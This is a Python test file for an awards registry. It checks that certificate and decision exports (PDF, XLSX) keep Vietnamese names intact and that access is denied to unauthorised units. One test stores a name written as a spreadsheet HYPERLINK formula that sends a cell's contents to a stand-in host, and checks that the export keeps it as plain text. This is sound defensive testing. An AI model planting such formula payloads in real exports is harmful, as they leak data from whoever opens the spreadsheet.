"""An award's documents (issue 14, point 15), looked at as a person would: a recipient's
certificate rendered to PNG (something is drawn) and its text read back with the recipient's
name and its Vietnamese diacritics whole; the decision as PDF and XLSX; 404 to whoever may not
read the decision."""

from __future__ import annotations

import io
import uuid
from datetime import timedelta

import pypdfium2
from python_calamine import CalamineWorkbook

from tests.awards.conftest import nodes
from tests.awards.test_people_graphql import AN, register
from tests.awards.test_revocation import decided
from tests.registry.test_graphql import gql

READ = "query($id: ID!) { decision(id: $id) { code recipients(first: 500) { edges { node { itemId } } } } }"


async def fetch(client, tokens, unit, path, roles=("officer",)):
    token = tokens.issue(tenant=unit, roles=list(roles), subject="s", ttl=timedelta(minutes=5))
    return await client.get(path, headers={"Authorization": f"Bearer {token}"})


def pages_text(content: bytes) -> tuple[str, int]:
    """The first page's text, and how many of its rendered pixels are not white."""
    pdf = pypdfium2.PdfDocument(content)
    page = pdf[0]
    text = page.get_textpage().get_text_range()
    image = page.render(scale=1).to_pil().convert("L")
    inked = sum(1 for value in image.getdata() if value < 200)
    return text, inked


async def test_a_certificate_shows_the_recipients_name_with_its_diacritics(
    client, tokens, tree, tmp_path
):
    person = await register(client, tokens, tree.cs1, AN | {"staffNumber": uuid.uuid4().hex[:10]})
    decision = await decided(
        client,
        tokens,
        tree,
        {"subject": "PERSON", "personId": person["id"], "award": "lao_dong_tien_tien"},
    )
    body = await gql(client, tokens, tree.upper1, ["officer"], READ, id=decision["id"])
    item = nodes(body["data"]["decision"]["recipients"])[0]["itemId"]

    response = await fetch(
        client, tokens, tree.cs1, f"/decisions/{decision['id']}/certificates/{item}"
    )
    assert response.status_code == 200 and response.headers["content-type"] == "application/pdf"
    text, inked = pages_text(response.content)
    assert "Nguyễn Thị Ánh" in text and "LAO ĐỘNG TIÊN TIẾN" in text
    assert decision["code"] in text
    assert inked > 5_000  # a framed page with its words, not a blank one
    # Saved where a person may look at it (pytest's --basetemp).
    pypdfium2.PdfDocument(response.content)[0].render(scale=1).to_pil().save(
        tmp_path / "certificate.png"
    )

    whole = await fetch(client, tokens, tree.upper1, f"/decisions/{decision['id']}/pdf")
    text, _ = pages_text(whole.content)
    assert "QUYẾT ĐỊNH" in text and "Nguyễn Thị Ánh" in text and "Điều 1." in text
    sheet = await fetch(client, tokens, tree.upper1, f"/decisions/{decision['id']}/xlsx")
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(sheet.content)).get_sheet_by_index(0).to_python()
    )
    assert rows[4][1:3] == ["Nguyễn Thị Ánh", "Lao động tiên tiến"]

    for unit in (tree.upper2, tree.prov2):
        hidden = await fetch(client, tokens, unit, f"/decisions/{decision['id']}/pdf")
        assert (hidden.status_code, hidden.json()["code"]) == (404, "NOT_FOUND")
    anonymous = await client.get(f"/decisions/{decision['id']}/pdf")
    assert anonymous.status_code == 401
    missing = await fetch(
        client, tokens, tree.cs1, f"/decisions/{decision['id']}/certificates/nope"
    )
    assert missing.status_code == 404


async def test_a_name_written_as_a_formula_stays_text_in_the_workbook(client, tokens, tree):
    person = await register(
        client,
        tokens,
        tree.cs1,
        {
            "fullName": '=HYPERLINK("http://x.example/?"&B5,"Bấm")',
            "gender": "MALE",
            "staffNumber": uuid.uuid4().hex[:10],
        },
    )
    decision = await decided(
        client,
        tokens,
        tree,
        {"subject": "PERSON", "personId": person["id"], "award": "lao_dong_tien_tien"},
    )
    sheet = await fetch(client, tokens, tree.upper1, f"/decisions/{decision['id']}/xlsx")
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(sheet.content)).get_sheet_by_index(0).to_python()
    )
    assert rows[4][1] == "'" + '=HYPERLINK("http://x.example/?"&B5,"Bấm")'
